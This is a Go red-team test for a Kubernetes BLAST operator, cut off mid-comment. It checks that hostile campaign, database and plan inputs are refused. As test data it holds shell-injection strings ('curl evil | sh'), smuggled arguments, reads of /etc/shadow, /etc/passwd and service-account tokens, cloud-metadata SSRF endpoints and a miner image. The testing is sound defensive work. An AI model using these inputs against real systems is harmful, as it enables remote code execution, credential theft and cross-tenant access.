package operator

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/util/retry"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/blastfleet/blastfleet/api/v1alpha1"
	"github.com/blastfleet/blastfleet/controllers"
	"github.com/blastfleet/blastfleet/internal/operator/policy"
	"github.com/blastfleet/blastfleet/internal/storage/cache"
	"github.com/blastfleet/blastfleet/internal/storage/ledger"
	"github.com/blastfleet/blastfleet/internal/storage/manifest"
	"github.com/blastfleet/blastfleet/test/support/faultproxy"
	"github.com/blastfleet/blastfleet/test/support/testenv/testkit"
)

// redRow is one hostile input of the red-team table: what an attacker
// (a campaign author, or anyone who can write a campaign's or a
// database's store, or run its endpoint) tries, where it is stopped, and
// the refusal expected there.
type redRow struct {
	category  string // spec, policy, plan, manifest, endpoint
	name      string
	input     string // the hostile input, short
	stoppedBy string
	reason    string // the refusal expected, as the table says it
	// arm sets the attack up; every row is armed before any is checked,
	// so the operator works on all of them at once.
	arm func()
	// check waits for the refusal and asserts it; it must fail if the
	// hostile input goes through.
	check func()
}

// Where a row is stopped.
const (
	byAPI      = "API server (CRD schema/CEL)"
	byPolicy   = "operator policy, before any Job or MPIJob"
	byLedger   = "operator, reading the ledger"
	byManifest = "operator, reading the manifest"
	byEngine   = "engine (manifest/cache), real MinIO"
	byBounds   = "operator store bounds"
)

// redTeamPolicy is the policy of a shared cluster's operator: MinIO
// (127.0.0.1) the one store, and an allowlist for every pod field.
var redTeamPolicy = policy.Policy{
	RequireCredentialsLabel: true,
	RequireCABundleLabel:    true,
	Images:                  []string{"registry.example/blastfleet/*"},
	PriorityClasses:         []string{"batch-low"},
	NodeSelectors:           []string{"pool=blast"},
	TolerationKeys:          []string{"dedicated"},
	ServiceAccounts:         []string{"blast-irsa"},
	Endpoints:               []string{"127.0.0.1"},
}

// redTeamMaxObject is the operator's --max-object-bytes here: small, so a
// huge object costs the test little.
const redTeamMaxObject = 1 << 20

// TestRedTeam runs hostile specs, plans, manifests and endpoints against
// the real API server, the operator (with a shared cluster's policy) and
// MinIO, and logs the table of what stopped each (issue 30). Every row
// asserts the refusal where it must happen, with the field or object it
// names.
func TestRedTeam(t *testing.T) {
	t.Parallel() // its own API server, MinIO and operator
	start := time.Now()
	h := newHarnessWith(t, redTeamPolicy)
	h.stopOperator()
	h.bounds = controllers.StoreBounds{RequestTimeout: time.Second, ReconcileTimeout: 3 * time.Second,
		MaxObjectBytes: redTeamMaxObject, MaxConcurrentReconciles: 8}
	h.startOperator()
	h.readyDatabase("sprot", v1alpha1.DatabaseProtein)
	h.redPolicyFixtures()

	var rows []redRow
	for _, part := range [][]redRow{h.redSpecs(), h.redPolicies(), h.redPlans(), h.redManifests(), h.redEndpoints()} {
		rows = append(rows, part...)
	}
	if len(rows) < 35 {
		t.Fatalf("%d rows, want at least 35", len(rows))
	}
	for _, r := range rows {
		if r.arm != nil {
			r.arm()
		}
	}
	home := h.t
	for _, r := range rows {
		t.Run(r.category+"/"+r.name, func(t *testing.T) {
			// The harness reports to the row's test while it is checked.
			h.t = t
			defer func() { h.t = home }()
			r.check()
		})
	}

	var b strings.Builder
	fmt.Fprintf(&b, "red-team table: %d hostile inputs in %s\n\n", len(rows), time.Since(start).Round(time.Second))
	b.WriteString("| category | hostile input | stopped by | reason |\n| --- | --- | --- | --- |\n")
	for _, r := range rows {
		fmt.Fprintf(&b, "| %s | %s | %s | %s |\n", r.category, cell(r.input), r.stoppedBy, cell(r.reason))
	}
	t.Log(b.String())
}

// cell makes s fit a markdown table cell.
func cell(s string) string {
	return strings.NewReplacer("|", `\|`, "\n", `\n`).Replace(s)
}

// --- 1. Specs the API server refuses -----------------------------------

// refusedSpec is a row whose object the API server must refuse, the
// error holding every part of want (the field first).
func (h *harness) refusedSpec(name, input string, obj func() client.Object, want ...string) redRow {
	return redRow{category: "spec", name: name, input: input, stoppedBy: byAPI, reason: strings.Join(want, ": "),
		check: func() {
			o := obj()
			err := h.c.Create(context.Background(), o)
			if err == nil {
				_ = h.c.Delete(context.Background(), o)
				h.t.Fatalf("the API server accepted %s", input)
			}
			if !apierrors.IsInvalid(err) {
				h.t.Fatalf("refused, but not as invalid: %v", err)
			}
			for _, w := range want {
				if !strings.Contains(err.Error(), w) {
					h.t.Errorf("the refusal does not say %q: %v", w, err)
				}
			}
		}}
}

// hostileCampaign is a campaign spec with one hostile change.
func (h *harness) hostileCampaign(name string, mutate func(*v1alpha1.SearchCampaign)) func() client.Object {
	return func() client.Object {
		c := h.campaign(name, "sprot", 1)
		mutate(c)
		return c
	}
}

// hostileDatabase is a database spec with one hostile change.
func (h *harness) hostileDatabase(name string, mutate func(*v1alpha1.BlastDatabase)) func() client.Object {
	return func() client.Object {
		db := h.database(name)
		mutate(db)
		return db
	}
}

// database is a valid BlastDatabase of two shards of fasta/<name>.fa.
func (h *harness) database(name string) *v1alpha1.BlastDatabase {
	return &v1alpha1.BlastDatabase{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: h.ns},
		Spec: v1alpha1.BlastDatabaseSpec{Source: v1alpha1.ObjectReference{Key: "fasta/" + name + ".fa"}, Type: v1alpha1.DatabaseProtein,
			Shards: v1alpha1.Sharding{Count: ptr.To[int32](2)}, Storage: h.output("databases")},
	}
}

func option(name, value string) []v1alpha1.BlastOption {
	return []v1alpha1.BlastOption{{Name: name, Value: value}}
}

func (h *harness) redSpecs() []redRow {
	c := h.hostileCampaign
	const shouldMatch = "should match"
	return []redRow{
		h.refusedSpec("outfmt-shell", `outfmt "6 qseqid; curl evil | sh"`,
			c("rt-outfmt-shell", func(c *v1alpha1.SearchCampaign) { c.Spec.Outfmt = "6 qseqid; curl evil | sh" }), "spec.outfmt", shouldMatch),
		h.refusedSpec("outfmt-newline", `outfmt "6 qseqid\n-out /tmp/x"`,
			c("rt-outfmt-nl", func(c *v1alpha1.SearchCampaign) { c.Spec.Outfmt = "6 qseqid\n-out /tmp/x" }), "spec.outfmt", shouldMatch),
		h.refusedSpec("evalue-option", `evalue "1e-5 -remote"`,
			c("rt-evalue", func(c *v1alpha1.SearchCampaign) { c.Spec.Evalue = "1e-5 -remote" }), "spec.evalue", shouldMatch),
		h.refusedSpec("option-out", "blastOptions -out /etc/cron.d/x",
			c("rt-opt-out", func(c *v1alpha1.SearchCampaign) { c.Spec.BlastOptions = option("out", "/etc/cron.d/x") }),
			"spec.blastOptions[0].name", `Unsupported value: "out"`),
		h.refusedSpec("option-remote", "blastOptions -remote (search at NCBI)",
			c("rt-opt-remote", func(c *v1alpha1.SearchCampaign) { c.Spec.BlastOptions = option("remote", "") }),
			"spec.blastOptions[0].name", `Unsupported value: "remote"`),
		h.refusedSpec("option-import-strategy", "blastOptions -import_search_strategy /var/run/secrets/token",
			c("rt-opt-import", func(c *v1alpha1.SearchCampaign) {
				c.Spec.BlastOptions = option("import_search_strategy", "/var/run/secrets/token")
			}), "spec.blastOptions[0].name", `Unsupported value: "import_search_strategy"`),
		h.refusedSpec("option-taxidlist", "blastOptions -taxidlist /etc/passwd (a path on the worker)",
			c("rt-opt-taxidlist", func(c *v1alpha1.SearchCampaign) { c.Spec.BlastOptions = option("taxidlist", "/etc/passwd") }),
			"spec.blastOptions[0].name", `Unsupported value: "taxidlist"`),
		h.refusedSpec("option-value-newline", `blastOptions matrix "BLOSUM62\n-out /tmp/x"`,
			c("rt-opt-nl", func(c *v1alpha1.SearchCampaign) { c.Spec.BlastOptions = option("matrix", "BLOSUM62\n-out /tmp/x") }),
			"spec.blastOptions[0].value", shouldMatch),
		h.refusedSpec("option-value-smuggled", `blastOptions word_size "3 -out /tmp/x"`,
			c("rt-opt-smuggle", func(c *v1alpha1.SearchCampaign) { c.Spec.BlastOptions = option("word_size", "3 -out /tmp/x") }),
			"spec.blastOptions[0]", "-word_size does not take 3 -out /tmp/x"),
		h.refusedSpec("queries-key-traversal", "queries.key ../../tenant-b/queries.fa",
			c("rt-key-dotdot", func(c *v1alpha1.SearchCampaign) { c.Spec.Queries.Key = "../../tenant-b/queries.fa" }),
			"spec.queries.key", "key must not have a '.' or '..' segment"),
		h.refusedSpec("output-prefix-traversal", "output.prefix campaigns/../../tenant-b",
			c("rt-prefix-dotdot", func(c *v1alpha1.SearchCampaign) { c.Spec.Output.Prefix = "campaigns/../../tenant-b" }),
			"spec.output.prefix", "prefix must not have a '.' or '..' segment"),
		h.refusedSpec("endpoint-file", "output.endpoint file:///etc/passwd",
			c("rt-ep-file", func(c *v1alpha1.SearchCampaign) { c.Spec.Output.Endpoint = "file:///etc/passwd" }),
			"spec.output.endpoint", shouldMatch),
		h.refusedSpec("endpoint-userinfo", "output.endpoint http://admin:hunter2@minio.example.org:9000",
			c("rt-ep-userinfo", func(c *v1alpha1.SearchCampaign) {
				c.Spec.Output.Endpoint = "http://admin:hunter2@minio.example.org:9000"
			}), "spec.output.endpoint", shouldMatch),
		h.refusedSpec("endpoint-path", "output.endpoint http://minio.example.org/other-bucket/plan.json",
			c("rt-ep-path", func(c *v1alpha1.SearchCampaign) {
				c.Spec.Output.Endpoint = "http://minio.example.org/other-bucket/plan.json"
			}), "spec.output.endpoint", shouldMatch),
		h.refusedSpec("queries-endpoint-metadata-path", "queries.storage.endpoint http://169.254.169.254/latest/meta-data",
			c("rt-qep-path", func(c *v1alpha1.SearchCampaign) {
				c.Spec.Queries.Storage = &v1alpha1.ObjectStorage{Endpoint: "http://169.254.169.254/latest/meta-data", Bucket: bucket, Anonymous: true}
			}), "spec.queries.storage.endpoint", shouldMatch),
		h.refusedSpec("partitions-count", "partitions.count 100000",
			c("rt-count", func(c *v1alpha1.SearchCampaign) { c.Spec.Partitions.Count = 100000 }),
			"spec.partitions.count", "less than or equal to 256"),
		h.refusedSpec("workers", "partitions.workers 1000000",
			c("rt-workers", func(c *v1alpha1.SearchCampaign) { c.Spec.Partitions.Workers = 1000000 }),
			"spec.partitions.workers", "less than or equal to 4096"),
		h.refusedSpec("max-target-seqs", "maxTargetSeqs 2000000000",
			c("rt-mts", func(c *v1alpha1.SearchCampaign) { c.Spec.MaxTargetSeqs = 2000000000 }),
			"spec.maxTargetSeqs", "less than or equal to 1000000"),
		h.refusedSpec("restarts", "retryPolicy.maxPartitionRestarts 1000000",
			c("rt-restarts", func(c *v1alpha1.SearchCampaign) { c.Spec.RetryPolicy.MaxPartitionRestarts = 1000000 }),
			"spec.retryPolicy.maxPartitionRestarts", "less than or equal to 999"),
		h.refusedSpec("negative-memory", "partitions.resources.requests.memory -1Gi",
			c("rt-neg-mem", func(c *v1alpha1.SearchCampaign) {
				c.Spec.Partitions.Resources.Requests = corev1.ResourceList{corev1.ResourceMemory: resource.MustParse("-1Gi")}
			}), "spec.partitions.resources", "must not be negative"),
		h.refusedSpec("name-too-long", "a 100-character campaign name",
			c(strings.Repeat("a", 100), func(*v1alpha1.SearchCampaign) {}), "must fit in 63 characters"),
		h.refusedSpec("service-account-path", "partitions.serviceAccountName ../kube-system/admin",
			c("rt-sa-path", func(c *v1alpha1.SearchCampaign) { c.Spec.Partitions.ServiceAccountName = "../kube-system/admin" }),
			"spec.partitions.serviceAccountName", shouldMatch),
		h.refusedSpec("ca-bundle-key-traversal", "output.caBundle.key ../../token",
			c("rt-ca-key", func(c *v1alpha1.SearchCampaign) {
				c.Spec.Output.CABundle = &v1alpha1.ConfigMapKeyRef{Name: "corp-ca", Key: "../../token"}
			}), "spec.output.caBundle.key", shouldMatch),
		h.refusedSpec("database-shards", "BlastDatabase shards.count 100000",
			h.hostileDatabase("rt-db-shards", func(db *v1alpha1.BlastDatabase) { db.Spec.Shards.Count = ptr.To[int32](100000) }),
			"spec.shards.count", "less than or equal to 4096"),
		h.refusedSpec("database-source-traversal", "BlastDatabase source.key ../tenant-b/nr.fa",
			h.hostileDatabase("rt-db-src", func(db *v1alpha1.BlastDatabase) { db.Spec.Source.Key = "../tenant-b/nr.fa" }),
			"spec.source.key", "key must not have a '.' or '..' segment"),
	}
}

// --- 2. Specs the API admits and the operator's policy refuses ---------

// refusedCampaign is a row whose campaign the API server admits and the
// operator refuses before any Job or MPIJob: it waits with reason, the
// condition's message and a warning event naming every part of want.
func (h *harness) refusedCampaign(name, input, reason string, mutate func(*v1alpha1.SearchCampaign), want ...string) redRow {
	return redRow{category: "policy", name: name, input: input, stoppedBy: byPolicy, reason: reason + ": " + strings.Join(want, " … "),
		arm: func() {
			h.putQueries(name)
			c := h.campaign(name, "sprot", 1)
			mutate(c)
			h.create(c)
		},
		check: func() {
			if got := h.waitRefused(name, reason, want...); got.Status.Phase != v1alpha1.CampaignPending {
				h.t.Errorf("phase %s, want Pending", got.Status.Phase)
			}
			h.noJobs(name)
		}}
}

// refusedDatabase is refusedCampaign for a BlastDatabase: it waits Pending
// with reason, and no sharding Job is created.
func (h *harness) refusedDatabase(name, input, reason string, mutate func(*v1alpha1.BlastDatabase), want string) redRow {
	return redRow{category: "policy", name: name, input: input, stoppedBy: byPolicy, reason: reason + ": " + want,
		arm: func() {
			db := h.database(name)
			mutate(db)
			h.create(db)
		},
		check: func() {
			h.waitDatabaseReason(name, reason, want)
			if jobs := h.databaseJobs(name); len(jobs) != 0 {
				h.t.Errorf("%d Jobs created for a refused database, want none", len(jobs))
			}
		}}
}

// databaseJobs are the Jobs of database name.
func (h *harness) databaseJobs(name string) []batchv1.Job {
	h.t.Helper()
	var jobs batchv1.JobList
	if err := h.c.List(context.Background(), &jobs, client.InNamespace(h.ns), client.MatchingLabels{controllers.LabelDatabase: name}); err != nil {
		h.t.Fatal(err)
	}
	return jobs.Items
}

func (h *harness) redPolicies() []redRow {
	const notAllowed = "is not allowed by the operator's policy"
	endpoint := func(ep string) func(*v1alpha1.SearchCampaign) {
		return func(c *v1alpha1.SearchCampaign) { c.Spec.Output.Endpoint = ep }
	}
	secret := func(name string) func(*v1alpha1.SearchCampaign) {
		return func(c *v1alpha1.SearchCampaign) { c.Spec.Output.CredentialsSecretRef.Name = name }
	}
	secretMsg := func(name string) string {
		return fmt.Sprintf(`spec.output: credentialsSecretRef: Secret %q is not one the operator's policy lets it use as credentials: it must exist in the namespace and carry the label %s=true`,
			name, v1alpha1.CredentialsLabel)
	}
	rows := []redRow{
		h.refusedCampaign("rt-image", "partitions.image docker.io/evil/miner:latest", policy.ReasonViolation,
			func(c *v1alpha1.SearchCampaign) { c.Spec.Partitions.Image = "docker.io/evil/miner:latest" },
			`spec.partitions.image: "docker.io/evil/miner:latest" `+notAllowed),
		h.refusedCampaign("rt-priority", "partitions.priorityClassName system-node-critical", policy.ReasonViolation,
			func(c *v1alpha1.SearchCampaign) { c.Spec.Partitions.PriorityClassName = "system-node-critical" },
			`spec.partitions.priorityClassName: "system-node-critical" `+notAllowed),
		h.refusedCampaign("rt-node-selector", "partitions.nodeSelector node-role.kubernetes.io/control-plane", policy.ReasonViolation,
			func(c *v1alpha1.SearchCampaign) {
				c.Spec.Partitions.NodeSelector = map[string]string{"node-role.kubernetes.io/control-plane": ""}
			}, `spec.partitions.nodeSelector[node-role.kubernetes.io/control-plane]: "node-role.kubernetes.io/control-plane=" `+notAllowed),
		h.refusedCampaign("rt-toleration", "partitions.tolerations [{operator: Exists}] (every taint)", policy.ReasonViolation,
			func(c *v1alpha1.SearchCampaign) {
				c.Spec.Partitions.Tolerations = []corev1.Toleration{{Operator: corev1.TolerationOpExists}}
			}, "spec.partitions.tolerations[0].key: a toleration without a key tolerates every taint"),
		h.refusedCampaign("rt-service-account", "partitions.serviceAccountName cluster-admin", policy.ReasonViolation,
			func(c *v1alpha1.SearchCampaign) { c.Spec.Partitions.ServiceAccountName = "cluster-admin" },
			`spec.partitions.serviceAccountName: "cluster-admin" `+notAllowed),
		h.refusedCampaign("rt-ep-metadata", "output.endpoint http://169.254.169.254 (cloud metadata)", policy.ReasonViolation,
			endpoint("http://169.254.169.254"), `spec.output: endpoint: "http://169.254.169.254" `+notAllowed, "internal address (169.254.0.0/16)"),
		h.refusedCampaign("rt-ep-mapped", "output.endpoint http://[::ffff:169.254.169.254]:80", policy.ReasonViolation,
			endpoint("http://[::ffff:169.254.169.254]:80"), `spec.output: endpoint: "http://[::ffff:169.254.169.254]:80" `+notAllowed,
			"169.254.169.254 is an internal address (169.254.0.0/16)"),
		h.refusedCampaign("rt-ep-localhost", "output.endpoint http://localhost:9000", policy.ReasonViolation,
			endpoint("http://localhost:9000"), `spec.output: endpoint: "http://localhost:9000" `+notAllowed),
		h.refusedCampaign("rt-ep-private", "output.endpoint http://10.0.0.1:9000", policy.ReasonViolation,
			endpoint("http://10.0.0.1:9000"), `spec.output: endpoint: "http://10.0.0.1:9000" `+notAllowed, "internal address (10.0.0.0/8)"),
		h.refusedCampaign("rt-ep-service", "queries.storage.endpoint http://minio.kube-system.svc:9000", policy.ReasonViolation,
			func(c *v1alpha1.SearchCampaign) {
				c.Spec.Queries.Storage = &v1alpha1.ObjectStorage{Endpoint: "http://minio.kube-system.svc:9000", Bucket: bucket,
					CredentialsSecretRef: &v1alpha1.CredentialsSecretRef{Name: secretName}}
			}, "spec.queries.storage", `"http://minio.kube-system.svc:9000" `+notAllowed),
		h.refusedCampaign("rt-operator-identity", "output without credentialsSecretRef (the operator's own identity)", policy.ReasonViolation,
			func(c *v1alpha1.SearchCampaign) { c.Spec.Output.CredentialsSecretRef = nil },
			"spec.output: credentialsSecretRef", "--allow-operator-identity"),
		h.refusedCampaign("rt-secret-unlabelled", "output.credentialsSecretRef: registry-password (exists, unlabelled)", policy.ReasonSecretNotAllowed,
			secret("registry-password"), secretMsg("registry-password")),
		// The same message as an unlabelled Secret's: the status does not
		// tell which Secrets exist.
		h.refusedCampaign("rt-secret-missing", "output.credentialsSecretRef: no-such-secret (missing)", policy.ReasonSecretNotAllowed,
			secret("no-such-secret"), secretMsg("no-such-secret")),
		h.refusedCampaign("rt-ca-unlabelled", "output.caBundle: app-config (a ConfigMap without the opt-in label)", policy.ReasonCABundleNotAllowed,
			func(c *v1alpha1.SearchCampaign) {
				c.Spec.Output.CABundle = &v1alpha1.ConfigMapKeyRef{Name: "app-config", Key: "ca.crt"}
			},
			`spec.output: caBundle: ConfigMap "app-config" is not one the operator's policy lets it use as a caBundle: it must carry the label `+v1alpha1.CABundleLabel+"=true"),
		h.refusedDatabase("rt-db-image", "BlastDatabase image docker.io/evil/miner:latest", policy.ReasonViolation,
			func(db *v1alpha1.BlastDatabase) { db.Spec.Image = "docker.io/evil/miner:latest" }, `spec.image: "docker.io/evil/miner:latest" `+notAllowed),
		h.refusedDatabase("rt-db-sa", "BlastDatabase serviceAccountName cluster-admin", policy.ReasonViolation,
			func(db *v1alpha1.BlastDatabase) { db.Spec.ServiceAccountName = "cluster-admin" }, `spec.serviceAccountName: "cluster-admin" `+notAllowed),
		h.refusedDatabase("rt-db-ep", "BlastDatabase storage.endpoint http://metadata.google.internal", policy.ReasonViolation,
			func(db *v1alpha1.BlastDatabase) { db.Spec.Storage.Endpoint = "http://metadata.google.internal" },
			`spec.storage: endpoint: "http://metadata.google.internal" `+notAllowed),
		h.refusedReplica("rt-db-replica", "a Ready database's replicas[0].storage.endpoint http://169.254.169.254",
			`spec.replicas[0].storage.endpoint: "http://169.254.169.254" `+notAllowed),
	}
	return rows
}

// refusedReplica is a row whose Ready database is given a replica the
// policy refuses: the replica waits Pending naming the field, and no copy
// Job is created.
func (h *harness) refusedReplica(name, input, want string) redRow {
	return redRow{category: "policy", name: name, input: input, stoppedBy: byPolicy, reason: "replica Pending: " + want,
		arm: func() {
			h.readyDatabase(name, v1alpha1.DatabaseProtein)
			if err := retry.RetryOnConflict(retry.DefaultRetry, func() error {
				var db v1alpha1.BlastDatabase
				if err := h.c.Get(context.Background(), client.ObjectKey{Namespace: h.ns, Name: name}, &db); err != nil {
					return err
				}
				db.Spec.Replicas = []v1alpha1.DatabaseReplica{{Name: "east", Storage: v1alpha1.ObjectStorage{Endpoint: "http://169.254.169.254", Bucket: "replica",
					CredentialsSecretRef: &v1alpha1.CredentialsSecretRef{Name: secretName}}}}
				return h.c.Update(context.Background(), &db)
			}); err != nil {
				h.t.Fatal(err)
			}
		},
		check: func() {
			h.eventually("replica of "+name+" refused", 20*time.Second, func() (bool, string) {
				var db v1alpha1.BlastDatabase
				if err := h.c.Get(context.Background(), client.ObjectKey{Namespace: h.ns, Name: name}, &db); err != nil {
					return false, err.Error()
				}
				if len(db.Status.Replicas) != 1 {
					return false, fmt.Sprintf("replicas %+v", db.Status.Replicas)
				}
				r := db.Status.Replicas[0]
				return r.State == v1alpha1.ReplicaPending && strings.Contains(r.Message, want), string(r.State) + ": " + r.Message
			})
			if jobs := h.replicaJobs(name); len(jobs) != 0 {
				h.t.Errorf("%d copy Jobs created for a refused replica, want none", len(jobs))
			}
		}}
}

// redPolicyFixtures are what the policy rows' author points at and
// exists in the namespace: a Secret holding working keys but not
// labelled for use as credentials, and an unlabelled ConfigMap.
func (h *harness) redPolicyFixtures() {
	sec := testkit.MinIOSecret(h.minio, h.ns, "registry-password")
	sec.Labels = nil
	h.create(sec)
	h.create(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "app-config", Namespace: h.ns}, Data: map[string]string{"ca.crt": "not for you"}})
}

// --- 3. Hostile plans in a campaign's ledger ---------------------------

// planJSON is the plan a planning Job would write for campaign name
// (three queries in chunks of two), as a JSON object to tamper with: it
// is written at a scratch location and read back.
func (h *harness) planJSON(name string) map[string]any {
	h.t.Helper()
	scratch := "scratch-" + name
	h.writePlan(scratch, "sprot", 3)
	data, _, err := h.store("campaigns/"+h.ns+"/"+scratch).GetBytes(context.Background(), ledger.PlanKey)
	if err != nil {
		h.t.Fatal(err)
	}
	var p map[string]any
	if err := json.Unmarshal(data, &p); err != nil {
		h.t.Fatal(err)
	}
	p["name"] = name
	p["queries"].(map[string]any)["location"] = fmt.Sprintf("s3://%s/queries/%s.fa", bucket, name)
	return p
}

// putRaw writes data at key of the bucket, as anyone holding the store's
// keys could.
func (h *harness) putRaw(key string, data []byte) {
	h.t.Helper()
	if err := h.store("").Put(context.Background(), key, bytes.NewReader(data), int64(len(data))); err != nil {
		h.t.Fatal(err)
	}
}

// hostilePlan is a row whose campaign finds, at its ledger location, the
// plan a planning Job would write with tamper applied, and must be
// refused with reason and phase, no partition created.
func (h *harness) hostilePlan(name, input string, phase v1alpha1.CampaignPhase, reason string, tamper func(p map[string]any), want ...string) redRow {
	return redRow{category: "plan", name: name, input: input, stoppedBy: byLedger, reason: string(phase) + "/" + reason + ": " + strings.Join(want, " … "),
		arm: func() {
			p := h.planJSON(name)
			tamper(p)
			data, err := json.Marshal(p)
			if err != nil {
				h.t.Fatal(err)
			}
			h.putQueries(name)
			h.putRaw("campaigns/"+h.ns+"/"+name+"/"+ledger.PlanKey, data)
			h.create(h.campaign(name, "sprot", 1))
		},
		check: func() { h.waitPlanRefused(name, phase, reason, want...) }}
}

// waitPlanRefused waits until campaign name is in phase with a Ready
// condition of reason whose message holds want, and checks that it has
// no partition.
func (h *harness) waitPlanRefused(name string, phase v1alpha1.CampaignPhase, reason string, want ...string) {
	h.t.Helper()
	h.eventually("campaign "+name+" "+string(phase)+"/"+reason, 30*time.Second, func() (bool, string) {
		c := h.get(name)
		cond := meta.FindStatusCondition(c.Status.Conditions, v1alpha1.ConditionReady)
		if c.Status.Phase != phase || cond == nil || cond.Reason != reason {
			return false, string(c.Status.Phase) + " " + describeCondition(cond)
		}
		for _, w := range want {
			if !strings.Contains(cond.Message, w) {
				return false, describeCondition(cond) + " lacks " + w
			}
		}
		return true, ""
	})
	if p := h.partitions(name); len(p) != 0 {
		h.t.Errorf("partitions %s created for a refused plan", names(p))
	}
}

func (h *harness) redPlans() []redRow {
	const invalid = "InvalidPlan"
	failed := v1alpha1.CampaignFailed
	chunks := func(cs ...[2]int) []any {
		var out []any
		for _, c := range cs {
			out = append(out, map[string]any{"first": c[0], "end": c[1], "letters": 0})
		}
		return out
	}
	sub := func(p map[string]any, field string) map[string]any { return p[field].(map[string]any) }
	rows := []redRow{
		h.hostilePlan("rt-plan-shell", `name "x\nsrun curl evil | sh" (reaches sbatch scripts)`, failed, invalid,
			func(p map[string]any) { p["name"] = "x\nsrun curl evil | sh" }, "plan name", `"x\nsrun curl evil | sh"`),
		h.hostilePlan("rt-plan-local-queries", "queries.location /var/run/secrets/kubernetes.io/serviceaccount/token", failed, "PlanMismatch",
			func(p map[string]any) {
				sub(p, "queries")["location"] = "/var/run/secrets/kubernetes.io/serviceaccount/token"
			}, "queries.location", "is a local path"),
		h.hostilePlan("rt-plan-file-db", "database.location file:///etc", failed, invalid,
			func(p map[string]any) { sub(p, "database")["location"] = "file:///etc" }, "plan database.location", "want s3://bucket/prefix"),
		h.hostilePlan("rt-plan-other-bucket", "queries.location s3://tenant-b/queries/secret.fa", failed, "PlanMismatch",
			func(p map[string]any) { sub(p, "queries")["location"] = "s3://tenant-b/queries/secret.fa" },
			`queries is "s3://tenant-b/queries/secret.fa" there`),
		h.hostilePlan("rt-plan-overlap", "chunks [0,2) [1,3) (overlapping)", failed, invalid,
			func(p map[string]any) { p["chunks"] = chunks([2]int{0, 2}, [2]int{1, 3}) }, "plan chunk 1 is [1,3), want it to start at 2"),
		h.hostilePlan("rt-plan-range", "chunks [0,2) [2,1000000) for 3 queries", failed, invalid,
			func(p map[string]any) { p["chunks"] = chunks([2]int{0, 2}, [2]int{2, 1000000}) }, "plan chunks cover 1000000 queries, queries.count is 3"),
		h.hostilePlan("rt-plan-db-name", "database.name ../../etc/passwd", failed, invalid,
			func(p map[string]any) { sub(p, "database")["name"] = "../../etc/passwd" }, "plan database.name", "../../etc/passwd"),
		h.hostilePlan("rt-plan-manifest-key", "database.manifest ../../tenant-b/manifest.json", failed, invalid,
			func(p map[string]any) { sub(p, "database")["manifest"] = "../../tenant-b/manifest.json" },
			`plan database.manifest "../../tenant-b/manifest.json": want builds/<id>/manifest.json`),
		h.hostilePlan("rt-plan-search-out", "search.options [-out /etc/cron.d/x]", failed, invalid,
			func(p map[string]any) {
				sub(p, "search")["options"] = []any{map[string]any{"name": "out", "value": "/etc/cron.d/x"}}
			}, "search.options[0]", "out"),
		h.hostilePlan("rt-plan-schema", "schemaVersion 99", failed, invalid,
			func(p map[string]any) { p["schemaVersion"] = 99 }, "has schema version 99"),
		h.hostilePlan("rt-plan-huge", fmt.Sprintf("plan.json of %d bytes (over --max-object-bytes)", redTeamMaxObject+64), v1alpha1.CampaignPending, "ObjectTooLarge",
			func(p map[string]any) { p["padding"] = strings.Repeat("x", redTeamMaxObject) }, "plan.json", fmt.Sprint(redTeamMaxObject)),
		h.planEditedMidRun(),
	}
	return rows
}

// planEditedMidRun: a running campaign's plan.json rewritten to read the
// queries from the pod's filesystem fails it and stops its partitions.
func (h *harness) planEditedMidRun() redRow {
	const name = "rt-plan-edited"
	return redRow{category: "plan", name: "edited-mid-run", input: "plan.json rewritten while partitions run (queries.location /etc/shadow)",
		stoppedBy: byLedger + " (ETag at every poll)", reason: "Failed/PlanChanged: plan.json, partitions deleted",
		arm: func() {
			h.putQueries(name)
			h.create(h.campaign(name, "sprot", 1))
			h.writePlan(name, "sprot", 3)
			h.waitPartitions(name, name+"-p0-r0")
			st := h.store("campaigns/" + h.ns + "/" + name)
			data, _, err := st.GetBytes(context.Background(), ledger.PlanKey)
			if err != nil {
				h.t.Fatal(err)
			}
			edited := strings.Replace(string(data), fmt.Sprintf("s3://%s/queries/%s.fa", bucket, name), "/etc/shadow", 1)
			if edited == string(data) {
				h.t.Fatalf("plan %s: no queries location to edit", data)
			}
			h.putRaw("campaigns/"+h.ns+"/"+name+"/"+ledger.PlanKey, []byte(edited))
		},
		check: func() {
			got := h.waitPhase(name, v1alpha1.CampaignFailed, 30*time.Second)
			cond := meta.FindStatusCondition(got.Status.Conditions, v1alpha1.ConditionFailed)
			if cond == nil || cond.Reason != "PlanChanged" || !strings.Contains(cond.Message, "plan.json") {
				h.t.Errorf("Failed condition %s, want PlanChanged naming plan.json", describeCondition(cond))
			}
			h.waitPartitions(name)
		}}
}

// --- 4. Hostile manifests ----------------------------------------------

// manifestJSON is a valid two-shard manifest, as a JSON object to tamper
// with.
func manifestJSON(t testing.TB, name string) map[string]any {
	t.Helper()
	m := validManifest(name)
	data, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	var out map[string]any
	if err := json.Unmarshal(data, &out); err != nil {
		t.Fatal(err)
	}
	return out
}

func validManifest(name string) *manifest.Manifest {
	shard := func(i int, data string) manifest.Shard {
		n := fmt.Sprintf("shard-%03d", i)
		sum := sha256.Sum256([]byte(data))
		return manifest.Shard{ID: i, Name: n, DBName: n + ".db", IDsFile: n + ".ids", Sequences: 5, Letters: 500,
			Files: []manifest.File{{Name: n + ".db.pin", Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])}}}
	}
	return &manifest.Manifest{SchemaVersion: manifest.SchemaVersion, Name: name, Type: manifest.Protein, BlastVersion: "2.16.0+",
		Sequences: 10, Letters: 1000, Source: manifest.Source{Name: name + ".fa", SHA256: "ab", Size: 40},
		Shards: []manifest.Shard{shard(0, "shard zero"), shard(1, "shard one")}}
}

// hostileManifest is a row whose database's sharding Jobs finish (as
